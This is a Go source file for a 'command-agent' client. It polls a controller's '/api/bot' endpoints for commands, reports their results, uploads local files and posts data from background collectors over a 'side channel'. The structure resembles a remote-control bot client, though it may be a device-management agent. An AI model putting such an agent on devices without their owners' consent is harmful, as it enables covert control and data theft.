// Package controller talks to the controller's HTTP+JSON endpoints.
package controller

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"time"

	"command-agent/agent/internal/command"
	"command-agent/agent/internal/logger"
)

const (
	PathGetCommands   = "/api/bot/get_commands"
	PathCommandResult = "/api/bot/command_result"
	PathUploadFile    = "/api/bot/upload_file"
	PathDeviceData    = "/api/bot/device_data"
)

var ErrUnexpectedStatus = errors.New("unexpected controller status")

type Client struct {
	baseURL string
	http    *http.Client
}

// New returns a client for baseURL. Deadlines come from the caller's context.
func New(baseURL string, hc *http.Client) *Client {
	if hc == nil {
		hc = &http.Client{}
	}
	return &Client{baseURL: baseURL, http: hc}
}

type fetchRequest struct {
	DeviceID string `json:"device_id"`
}

type fetchResponse struct {
	Commands []json.RawMessage `json:"commands"`
}

type wireCommand struct {
	ID     json.RawMessage `json:"command_id"`
	Type   string          `json:"type"`
	Params json.RawMessage `json:"params"`
}

// FetchCommands asks for pending commands. An absent "commands" field yields an
// empty list. Entries are decoded one by one; an entry without a usable id or
// type is logged and skipped so the rest of the batch still runs.
func (c *Client) FetchCommands(ctx context.Context, deviceID string) ([]command.Command, error) {
	var out fetchResponse
	if err := c.postJSON(ctx, PathGetCommands, fetchRequest{DeviceID: deviceID}, &out, http.StatusOK); err != nil {
		return nil, err
	}
	cmds := make([]command.Command, 0, len(out.Commands))
	for i, raw := range out.Commands {
		cmd, err := decodeCommand(raw)
		if err != nil {
			logger.Warnf("Skipping command #%d: %v", i, err)
			continue
		}
		cmds = append(cmds, cmd)
	}
	return cmds, nil
}

func decodeCommand(raw json.RawMessage) (command.Command, error) {
	var w wireCommand
	if err := json.Unmarshal(raw, &w); err != nil {
		return command.Command{}, fmt.Errorf("decode entry: %w", err)
	}
	id, err := commandID(w.ID)
	if err != nil {
		return command.Command{}, err
	}
	// a params value that is not an object counts as no params
	var params command.Params
	if err := json.Unmarshal(w.Params, &params); err != nil {
		params = nil
	}
	return command.Command{ID: id, Type: w.Type, Params: params}, nil
}

// commandID accepts a JSON string or number.
func commandID(raw json.RawMessage) (string, error) {
	var s string
	if err := json.Unmarshal(raw, &s); err == nil && s != "" {
		return s, nil
	}
	var n json.Number
	if err := json.Unmarshal(raw, &n); err == nil && n != "" {
		return n.String(), nil
	}
	return "", fmt.Errorf("no usable command_id in %s", bytes.TrimSpace(raw))
}

type resultRequest struct {
	DeviceID  string          `json:"device_id"`
	CommandID string          `json:"command_id"`
	Result    string          `json:"result"`
	Status    command.Status  `json:"status"`
	Outcome   command.Outcome `json:"outcome,omitempty"`
	Timestamp int64           `json:"timestamp"`
}

func (c *Client) PostResult(ctx context.Context, deviceID string, res command.Result) error {
	body := resultRequest{
		DeviceID:  deviceID,
		CommandID: res.CommandID,
		Result:    res.Output,
		Status:    res.Status,
		Outcome:   res.Outcome,
		Timestamp: res.Timestamp.UnixMilli(),
	}
	return c.postJSON(ctx, PathCommandResult, body, nil, 0)
}

type deviceDataRequest struct {
	DeviceID  string `json:"device_id"`
	Category  string `json:"category"`
	Data      any    `json:"data"`
	Timestamp int64  `json:"timestamp"`
}

// PostDeviceData is the side channel used by background collectors.
func (c *Client) PostDeviceData(ctx context.Context, deviceID, category string, data any) error {
	body := deviceDataRequest{DeviceID: deviceID, Category: category, Data: data, Timestamp: time.Now().UnixMilli()}
	return c.postJSON(ctx, PathDeviceData, body, nil, 0)
}

// UploadFile streams path as multipart form field "file" alongside "device_id".
func (c *Client) UploadFile(ctx context.Context, deviceID, path string) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("open upload: %w", err)
	}
	defer f.Close()

	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		err := writeUpload(mw, deviceID, filepath.Base(path), f)
		if err == nil {
			err = mw.Close()
		}
		pw.CloseWithError(err)
	}()

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.baseURL+PathUploadFile, pr)
	if err != nil {
		pr.Close()
		return err
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return c.do(req, nil, 0)
}

func writeUpload(mw *multipart.Writer, deviceID, name string, r io.Reader) error {
	if err := mw.WriteField("device_id", deviceID); err != nil {
		return err
	}
	part, err := mw.CreateFormFile("file", name)
	if err != nil {
		return err
	}
	_, err = io.Copy(part, r)
	return err
}

func (c *Client) postJSON(ctx context.Context, path string, in, out any, want int) error {
	b, err := json.Marshal(in)
	if err != nil {
		return fmt.Errorf("marshal %s: %w", path, err)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.baseURL+path, bytes.NewReader(b))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json")
	return c.do(req, out, want)
}

// do sends req and decodes the body into out. want, when non-zero, is the only
// accepted status; otherwise any 2xx is.
func (c *Client) do(req *http.Request, out any, want int) error {
	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()

	ok := resp.StatusCode >= 200 && resp.StatusCode < 300
	if want != 0 {
		ok = resp.StatusCode == want
	}
	if !ok {
		snippet, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return fmt.Errorf("%w: %s %d %s", ErrUnexpectedStatus, req.URL.Path, resp.StatusCode, bytes.TrimSpace(snippet))
	}
	if out == nil {
		_, _ = io.Copy(io.Discard, resp.Body)
		return nil
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		return fmt.Errorf("decode %s: %w", req.URL.Path, err)
	}
	return nil
}
